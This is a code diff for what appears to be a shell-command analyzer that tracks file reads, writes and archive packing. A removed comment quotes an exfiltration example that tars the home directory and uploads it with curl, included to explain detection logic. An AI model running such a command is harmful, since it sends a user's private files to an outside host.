@@ -1,4 +1,5 @@
 import type { Analysis, DeleteVia, Effect, ReadVia, WriteVia } from '../analysis.ts';
+import { notePacking, packedIn } from './archives.ts';
 import { noteBytes, noteCopy } from './copies.ts';
 import { markCut } from '../run/add-mark.ts';
 import { isListedDevice, isUnknownCode, render } from '../expand/unknown.ts';
@@ -28,18 +29,6 @@ export function readPath(machine: Machine, call: Call, path: string, via: ReadVi
       for (const packed of packedIn(machine, at.path)) pushPath(machine, call, packed, { kind: 'read', via });
   }
   readAgain(machine, call, path, (other) => readPath(machine, other.call, other.path, via));
-}
-
-/** An archive that the same text has made holds what was packed: `tar czf b.tgz ~ && curl -T b.tgz URL` sends the home. */
-function packedIn({ analysis: { effects } }: Machine, path: string): Located[] {
-  const makers = effects
-    .filter((effect) => effect.kind === 'write' && effect.via === 'archive' && effect.path === path)
-    .map(({ by }) => by);
-  return effects.flatMap((effect) =>
-    effect.kind === 'read' && effect.via === 'archive' && makers.includes(effect.by)
-      ? [{ path: effect.path, raw: effect.raw, ...(effect.hint === undefined ? {} : { hint: effect.hint }) }]
-      : [],
-  );
 }
 
 /** A copy that was just made holds what its original holds. */
@@ -135,9 +124,10 @@ export function removePath(machine: Machine, call: Call, path: string, removing:
 /** All that a directory holds: `*`, `./*`, `.`. */
 const EVERYTHING = /^(?:\.\/)*(?:\*+|\.?\*|\.\/?)$/;
 
-type PathBody = { kind: 'read' | 'write' | 'delete' } & Record<string, unknown>;
+type PathBody = { kind: 'read' | 'write' | 'delete'; via: ReadVia | WriteVia | DeleteVia } & Record<string, unknown>;
 
 function pushPath(machine: Machine, call: Call, at: Located, body: PathBody): void {
+  if (machine.budget.paths-- <= 0) return machine.mark('too-many', 'paths', call.frame);
   // On another machine the directory is never known, which says nothing about this text.
   if (at.path === '?' && (call.frame.place === 'local' || at.raw.includes('$')))
     machine.mark('dynamic-path', at.raw, call.frame);
@@ -145,10 +135,12 @@ function pushPath(machine: Machine, call: Call, at: Located, body: PathBody): vo
   const place = mount === undefined ? call.frame.place : 'local';
   const path = mount ?? at.path;
   const copyOf = call.scope.copied.get(path);
+  const shown = { ...at, ...shownPath(machine, path) };
+  if (body.via === 'archive' && body.kind !== 'delete' && call.frame.assumed !== true)
+    notePacking(machine, call, body.kind, shown);
   effectsOf(machine.analysis, call).push({
     ...body,
-    ...at,
-    ...shownPath(machine, path),
+    ...shown,
     by: call.index,
     place,
     ...scriptPlace(machine, call.frame.line),
